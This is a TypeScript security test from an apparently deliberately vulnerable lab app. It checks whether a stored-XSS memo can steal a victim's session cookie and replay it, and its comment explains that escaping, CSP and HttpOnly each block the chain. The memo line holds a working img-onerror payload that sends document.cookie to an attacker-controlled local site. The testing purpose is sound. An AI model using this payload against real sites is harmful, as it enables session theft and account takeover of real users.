// Attack chain (lab flaws `stored-xss`, `no-csp` and `readable-cookie` together, as on the
// all-flaws server): Mallory's memo carries a script that takes the victim's browser to her
// site with document.cookie in the address; she replays the session ID in her own browser.
// Each of the three defenses alone stops it — escaping (the markup stays text), the CSP (the
// script has no nonce), HttpOnly (no cookie for script to read) — so `npm run test:flaws` does
// not run it flaw by flaw; it runs against the secure and all-flaws servers with the others. The
// victim signs in through the real form: what script may read of the cookie the browser stored is
// one of the three defenses.
import { startAttackerSite } from "../support/attacker-site";
import { victimOpensMemo } from "../support/memo-attack";
import { expectAttack, idStillWorks, SESSION_COOKIE, signInWithForm, test } from "../support/fixtures";

test("a memo's script sends the victim's session cookie to Mallory, who replays it", async ({
  browser,
  baseURL,
  page,
  request,
  user,
  createUser,
  target,
}) => {
  const mallory = await createUser();
  const site = await startAttackerSite("<!doctype html><title>Vaultline</title><h1>Thanks for your payment</h1>");
  try {
    await signInWithForm(page, user);
    const memo = `<img src=x onerror="location='${site.url("127.0.0.1")}c?'+encodeURIComponent(document.cookie)">`;
    await victimOpensMemo(page, request, { mallory, victim: user }, memo, "Thanks for your payment");
    const stolen = stolenId(site.requests);
    expectAttack(target, !!stolen && (await idStillWorks(browser, baseURL!, stolen, user)));
  } finally {
    await site.close();
  }
});

/** The session ID in a cookie string the payload sent, if any. */
function stolenId(requests: string[]): string | undefined {
  const cookies = requests.filter((r) => r.startsWith("/c?")).map((r) => decodeURIComponent(r.slice("/c?".length)));
  return cookies
    .map((c) =>
      c
        .split("; ")
        .find((pair) => pair.startsWith(`${SESSION_COOKIE}=`))
        ?.slice(SESSION_COOKIE.length + 1),
    )
    .find(Boolean);
}
